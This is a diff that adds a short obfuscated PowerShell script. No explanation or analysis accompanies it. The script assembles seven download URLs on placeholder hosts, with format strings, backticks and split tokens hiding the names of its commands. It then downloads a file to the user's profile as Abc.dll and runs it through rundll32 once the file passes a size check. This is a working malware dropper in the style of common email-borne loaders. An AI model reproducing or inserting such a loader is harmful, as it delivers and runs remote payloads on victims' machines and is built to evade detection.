@@ -1,0 +1,27 @@
+$Zq=@();
+$Zq+='ww://a.';
+$Zq+='example';
+$Zq+='/wp/0/@';
+$Zq+='ww://b.';
+$Zq+='example';
+$Zq+='/wp/1/@';
+$Zq+='ww://c.';
+$Zq+='example';
+$Zq+='/wp/2/@';
+$Zq+='ww://d.';
+$Zq+='example';
+$Zq+='/wp/3/@';
+$Zq+='ww://e.';
+$Zq+='example';
+$Zq+='/wp/4/@';
+$Zq+='ww://f.';
+$Zq+='example';
+$Zq+='/wp/5/@';
+$Zq+='ww://g.';
+$Zq+='example';
+$Zq+='/wp/6/';
+$Kk=[tYPe]("{1}{0}"-f'ING','sTR');
+$Qw='';foreach($i in $Zq){$Qw+=$i};
+$Lm=$Qw.("{0}{1}"-f're','place').Invoke('ww','http')."sp`lit"('@');
+$Nn=$env:userprofile+'\'+'Abc'+'.dll';
+foreach($Uu in $Lm){try{(&('n'+'ew-ob'+'ject') nEt.wEBcLIeNT)."doWNl`oAd`FIle"($Uu,$Nn);if((.('Get-'+'Item') $Nn)."l`ength" -ge 38000){&('rundl'+'l32') $Nn,'Control_RunDLL'."to`String"();break}}catch{}}
